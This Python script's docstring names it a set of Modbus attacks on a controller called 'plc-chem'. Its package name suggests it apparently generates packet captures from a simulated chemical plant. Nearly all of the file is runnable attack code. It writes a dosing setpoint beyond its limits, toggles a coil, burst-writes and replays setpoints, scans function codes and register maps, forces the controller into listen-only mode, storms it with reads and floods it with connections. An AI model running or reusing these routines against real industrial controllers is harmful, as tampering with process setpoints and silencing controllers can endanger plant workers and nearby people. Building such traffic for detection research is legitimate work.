"""Modbus attacks on plc-chem, with the pymodbus client; codes it cannot send are written on a plain socket."""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections.abc import Callable

from pymodbus.pdu.mei_message import ReadDeviceInformationRequest

from pcaps.plant import hosts, masters

UNIT = hosts.MODBUS_UNIT
SCANNED_FUNCTIONS = (7, 11, 12, 17, *range(65, 73), *range(100, 105))
FLOOD_CONNECTIONS = 80
BURST_WRITES = 90
BURST_PER_SECOND = 45.0
STORM_SECONDS, STORM_PER_SECOND = 50, 12.0
REPLAYS, REPLAY_EVERY_SECONDS = 6, 6.0
SWEEP_EVERY_SECONDS = 2.0


def write() -> None:
    """Change registers, a setpoint beyond its limits and a coil, each with one request."""
    with masters.modbus() as client:
        client.read_holding_registers(100, count=8, device_id=UNIT)
        client.write_register(100, 95, device_id=UNIT)
        time.sleep(0.5)
        client.write_registers(102, [0, 100, 0, 1], device_id=UNIT)
        time.sleep(0.5)
        client.write_coil(4, True, device_id=UNIT)


def setpoint() -> None:
    """Write a setpoint beyond its limit and a parameter behind the setpoints."""
    with masters.modbus() as client:
        client.write_register(100, 95, device_id=UNIT)
        time.sleep(1.2)
        client.write_register(104, 0, device_id=UNIT)
        time.sleep(0.5)


def burst() -> None:
    """Write the dosing setpoint ninety times in two seconds."""
    with masters.modbus() as client:
        begin = time.monotonic()
        for number in range(BURST_WRITES):
            time.sleep(max(0.0, begin + number / BURST_PER_SECOND - time.monotonic()))
            client.write_register(100, 20 + number % 60, device_id=UNIT)


def functions() -> None:
    """Try one function code after the other and see which the controller knows."""
    with socket.create_connection((hosts.PLC_CHEM.ip, 502), timeout=2) as link:
        for transaction, function in enumerate(SCANNED_FUNCTIONS, 1):
            link.sendall(struct.pack(">HHHBB", transaction, 0, 2, UNIT, function))
            try:
                link.recv(260)
            except TimeoutError:
                continue
            time.sleep(0.2)


def addresses() -> None:
    """Read one holding register every fifty addresses to find the map."""
    with masters.modbus() as client:
        for address in range(0, 2000, 50):
            client.read_holding_registers(address, count=1, device_id=UNIT)
            time.sleep(0.1)


def listen_only() -> None:
    """Force the controller into listen-only mode."""
    with masters.modbus() as client:
        client.diag_query_data(b"\x5a\xa5", device_id=UNIT)
        client.diag_force_listen_only(device_id=UNIT, no_response_expected=True)
        time.sleep(1)


def poll() -> None:
    """Poll the controller like an operator station does."""
    with masters.modbus() as client:
        for _ in range(12):
            client.read_input_registers(0, count=20, device_id=UNIT)
            client.read_holding_registers(100, count=2, device_id=UNIT)
            time.sleep(1)


def storm() -> None:
    """Ask what the display asks anyway, twelve times a second instead of every other second."""
    with masters.modbus() as client:
        begin = time.monotonic()
        for number in range(int(STORM_SECONDS * STORM_PER_SECOND)):
            time.sleep(max(0.0, begin + number / STORM_PER_SECOND - time.monotonic()))
            client.read_input_registers(0, count=10, device_id=UNIT)


def replay() -> None:
    """Send the operator's last order of setpoints again and again, each time on a new connection."""
    for _ in range(REPLAYS):
        with masters.modbus() as client:
            client.write_registers(100, [60, 19], device_id=UNIT)
        time.sleep(REPLAY_EVERY_SECONDS)


def sweep() -> None:
    """Read every measurement and setpoint that may be read, one register at a time and without haste."""
    with masters.modbus() as client:
        for address in range(40):
            client.read_input_registers(address, count=1, device_id=UNIT)
            time.sleep(SWEEP_EVERY_SECONDS)
        for address in (100, 101):
            client.read_holding_registers(address, count=1, device_id=UNIT)
            time.sleep(SWEEP_EVERY_SECONDS)


def flood() -> None:
    """Open eighty connections, hold them and close them."""
    links = []
    for _ in range(FLOOD_CONNECTIONS):
        links.append(socket.create_connection((hosts.PLC_CHEM.ip, 502), timeout=2))
        time.sleep(0.05)
    time.sleep(1)
    for link in links:
        link.close()


def identify() -> None:
    """Ask who the controller is: device identification, basic and regular."""
    with masters.modbus() as client:
        for access in (1, 2):
            client.execute(False, ReadDeviceInformationRequest(read_code=access, dev_id=UNIT))
            time.sleep(0.3)


ACTIONS: dict[str, Callable[[], None]] = {
    action.__name__: action
    for action in (
        write,
        setpoint,
        burst,
        functions,
        addresses,
        listen_only,
        poll,
        storm,
        replay,
        sweep,
        flood,
        identify,
    )
}


if __name__ == "__main__":
    ACTIONS[sys.argv[1]]()
